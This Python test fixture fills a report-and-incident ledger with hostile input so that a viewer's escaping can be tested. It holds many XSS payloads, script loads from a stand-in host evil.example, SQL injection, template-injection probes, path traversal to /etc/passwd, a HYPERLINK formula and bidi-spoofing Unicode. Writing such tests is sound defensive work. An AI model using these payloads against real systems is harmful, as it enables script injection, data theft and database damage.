"""Hostile words, written for these tests: script, attributes, addresses, templates, directions, controls; and a ledger with them everywhere."""

from dataclasses import replace
from pathlib import Path

from allegedly.ledger.connect import open_for_writing
from allegedly.ledger.write import append, record_grouping, record_problems
from allegedly.links import Merge
from allegedly.problems import Problem
from allegedly.records import Account, Answer, Answers, Incident, IncidentEvent, Part, Participant, Span
from tests.view.cases import FIRST, INCIDENT

CALLS = ("window.pwned=1", "alert(1)", "top.pwned=1")
TAGS = (
    "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script src=//evil.example/x.js></script>", "</title><script>{}</script>",
    "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<math><mi xlink:href='javascript:{}'>",
    "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<a href=javascript:{}>x</a>", "<form action=javascript:{}><button>x</button></form>", "<object data=javascript:{}>",
    "<style>@import '//evil.example/x.css';</style><b onclick={}>x</b>", "<base href=//evil.example/ onload={}>", "--><script>{}</script>",
    "<template><script>{}</script></template>", "<video><source onerror={}></video>",
)  # fmt: skip
ATTRIBUTES = (
    "\" onmouseover=\"{}", "' onfocus='{}' autofocus='", "\"><script>{}</script>", "'><img src=x onerror={}>", "` onload={}",
    "\" style=\"background:url(//evil.example)\" x=\"{}",
)  # fmt: skip
ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", " javascript:{}", "data:text/html,<script>{}</script>", "vbscript:{}",
    "//evil.example/{}", "http://evil.example\\@x/{}", "file:///etc/passwd?{}", "https://x\"onclick={}",
)  # fmt: skip
PLAIN = (
    "{{ 7*7 }}{{ config }}", "{% for x in y %}", "${7*7}", "<%= 7 %>", "&lt;script&gt;", "&#60;script&#62;", "%3Cscript%3E", "\\u003cscript\\u003e",
    "\u202eevil\u202c", "\u2066\u202e\u2069txt.exe", "\u200f\u200e\u061c", "a\u0301\u0302\u0303\u0304" * 20, "\x01\x02mark\x03\x7f", "\ufeff\ufffe",
    "../../etc/passwd", "..%2f..%2fetc", "'; DROP TABLE report; --", "\" OR 1=1 --", "=HYPERLINK(\"//evil.example\")", "\u202d<b>\u202c",
)  # fmt: skip


def attacks() -> list[str]:
    """Every attack, each with each call it makes."""
    made = [shape.replace("{}", call) for shape in (*TAGS, *ATTRIBUTES, *ADDRESSES) for call in CALLS]
    return list(dict.fromkeys([*made, *PLAIN]))


def hostile_ledger(path: Path, size: int = 8) -> Path:
    """A ledger whose reports and incidents hold ``size`` attacks each, in every field that takes words."""
    words = attacks()
    groups = [words[n : n + size] for n in range(0, len(words), size)]
    with open_for_writing(path) as connection:
        for number, group in enumerate(groups):
            append(connection, _report(number, group))
        record_grouping(connection, [_incident(number, group) for number, group in enumerate(groups)])
        record_problems(connection, words[0], [Problem(word, word, word) for word in words])
    return path


def _report(number: int, group: list[str]):  # type: ignore[no-untyped-def]
    text = "\n".join(group).replace("\r", " ")
    spans, at = [], 0
    for word in group:
        spans.append(Span(word, at, at + len(word)))
        at += len(word) + 1
    first, key = group[0], f"r-{number}"
    report = replace(
        FIRST.report, id=key, text=text, title=first, outlet=group[-1], url=group[1], byline=group[2], file=group[3], dateline=None,
        parts=(Part("body", 0, len(text)),), basis=(),
    )  # fmt: skip
    event, claim, said, place = FIRST.events[0], FIRST.claims[1], FIRST.statements[0], FIRST.places[0]
    events, claims, statements, places = [], [], [], []
    for n, (word, span) in enumerate(zip(group, spans, strict=True)):
        named = (Participant(word, f"a-{n}", "military", None, span, word),)
        where = replace(place, span=span, name=word, reason=word, rule=word)
        events.append(replace(
            event, id=f"e-{number}-{n}", trigger=span, actors=named, recipients=named, when=None, where=where, counts=(),
            evidence=span, rule=word, contexts=(word,), mode=word,
        ))  # fmt: skip
        places.append(where)
        voice = replace(said.voice, name=word, span=span, speaks_for=word, rule=word)  # type: ignore[type-var]
        statements.append(
            replace(said, id=f"s-{number}-{n}", voice=voice, cue=span, content=(span,), within=None, rule=word)
        )
        claims.append(replace(
            claim, id=f"c-{number}-{n}", event=f"e-{number}-{n}", statement=None, voice=word, value=word, evidence=(span,), rule=word,
            hedges=(span,), responds_to=None,
        ))  # fmt: skip
    problems = tuple(Problem(word, word, word) for word in group)
    return replace(
        FIRST, report=report, statements=tuple(statements), events=tuple(events), claims=tuple(claims), places=tuple(places), dates=(),
        problems=problems,
    )  # fmt: skip


def _incident(number: int, group: list[str]) -> Incident:
    spans, at = [], 0
    for word in group:
        spans.append(Span(word, at, at + len(word)))
        at += len(word) + 1
    where = replace(
        FIRST.places[0],
        name=group[4],
        span=spans[4],
        lat=10.0 + number,
        lon=20.0,
        precision=4,
        country="SYR",
        reason=group[5],
    )
    events = tuple(IncidentEvent(f"e-{number}-{n}", f"r-{number}", word, spans[n]) for n, word in enumerate(group))
    accounts = tuple(
        Account(word, "military", n % 2 == 0, None, None, {"responsibility": "asserts"}, (), (f"c-{number}-{n}",))
        for n, word in enumerate(group)
    )
    answers = Answers("disputed", tuple(Answer(word, (word,)) for word in group), group[1])
    merges = tuple(Merge(events[0].id, one.id, 1.0, group[2]) for one in events[1:])
    return replace(
        INCIDENT, id=f"i-{number:016d}", title=group[0], mode=group[3], where=where, events=events, reports=(f"r-{number}",), origins=1,
        accounts=accounts, questions={"responsibility": answers}, toll={}, label_why=group[5], merges=merges,
    )  # fmt: skip
